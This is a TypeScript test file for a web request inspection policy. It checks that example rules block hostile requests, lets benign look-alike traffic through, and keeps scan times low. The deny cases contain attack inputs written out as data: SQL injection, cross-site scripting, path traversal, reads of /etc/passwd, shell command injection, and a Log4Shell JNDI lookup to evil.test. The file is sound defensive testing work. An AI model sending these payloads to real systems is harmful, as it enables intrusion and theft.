import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, test } from 'vitest';
import { CalmLogger } from '../../src/base/calm-logger.ts';
import { systemClock } from '../../src/base/clock.ts';
import { silentLogger } from '../../src/base/logger.ts';
import { readConfig } from '../../src/config/load.ts';
import { Inspection } from '../../src/policy/inspection.ts';
import { SecurityEvents } from '../../src/policy/security-events.ts';
import { headWith } from './head.ts';

const FORM = 'application/x-www-form-urlencoded';
let inspection: Inspection;

beforeAll(async () => {
  const { config } = await readConfig(fileURLToPath(new URL('../../examples/inspection/rules.yaml', import.meta.url)));
  const { inspect } = config.policy!;
  if (!inspect) throw new Error('the example has no rules');
  inspection = new Inspection(inspect, new SecurityEvents(CalmLogger.over(silentLogger, systemClock)));
});

function verdictOn(request: { path?: string; query?: string; agent?: string; body?: string; type?: string }) {
  const { path = '/', query = '', agent = 'Mozilla/5.0', body, type = FORM } = request;
  const head = headWith({ isUpgrade: false, path, query, headers: { 'user-agent': agent, 'content-type': type } });
  const decision =
    inspection.judgeHead(head, '/') ??
    (body === undefined ? undefined : inspection.judgeBody(Buffer.from(body), head, '/'));
  return decision && /"(.*?)"/.exec(decision.reason)![1];
}

describe('the example rules', () => {
  test.each([
    ['hidden-files', { path: '/.git/config' }],
    ['hidden-files', { path: '/app/.ENV' }],
    ['foreign-software', { path: '/wp-login.php' }],
    ['server-scripts', { path: '/a/shell.php' }],
    ['scanners', { agent: 'sqlmap/1.7' }],
    ['sql-union', { query: 'id=1%20UNION%20ALL%20SELECT%201' }],
    ['sql-union', { body: 'id=1+union+select+1' }],
    ['sql-always-true', { body: 'name=%27+or+%271%27%3D%271' }],
    ['sql-stacked', { body: '{"a":"1; DROP TABLE users"}', type: 'application/json' }],
    ['script-element', { query: 'q=%3Cscript%3Ealert(1)' }],
    ['script-element', { body: '{"q":"\\u003cscript>"}', type: 'application/json' }],
    ['script-handler', { body: 'q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E' }],
    ['script-url', { query: 'next=javascript:alert(1)' }],
    ['traversal', { query: 'file=..%2F..%2Fetc' }],
    ['unix-files', { query: 'file=/etc/passwd' }],
    ['shell', { query: 'host=a;%20cat%20b' }],
    ['log4shell', { agent: '$\u007bjndi:ldap://evil.test/a}' }],
    ['double-escape', { query: 'q=%253Cscript' }],
    ['null-byte', { query: 'file=a%00.png' }],
  ])('deny %s: %j', (name, request) => {
    expect(verdictOn(request)).toBe(name);
  });

  test.each([
    [{ path: '/shop/items/4711', query: 'q=red+shoes&sort=price%20asc' }],
    [{ path: '/well-known/.hidden.txt' }],
    [{ query: 'q=credit+union+selection&name=O%27Brien' }],
    [{ body: 'text=The+reunion;+select+a+table+or+drop+by.' }],
    [
      {
        body: JSON.stringify({ html: '<p class="on">1 < 2 and 3 > 2</p>', note: "it's or isn't" }),
        type: 'application/json',
      },
    ],
    [
      {
        agent: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36',
      },
    ],
  ])('let pass %j', request => {
    expect(verdictOn(request)).toBeUndefined();
  });

  test.each(['<', "'", ' ', 'union ', '<a ', '; ', "' or", `<a${' b'.repeat(99)}`, '%3c', '${jndi'])(
    'take milliseconds for 64 KiB of %j',
    piece => {
      const body = piece.repeat(Math.ceil(65_536 / piece.length)).slice(0, 65_536);
      const start = process.cpuUsage().user;
      verdictOn({ body });
      expect(process.cpuUsage().user - start).toBeLessThan(150_000);
    },
  );
});
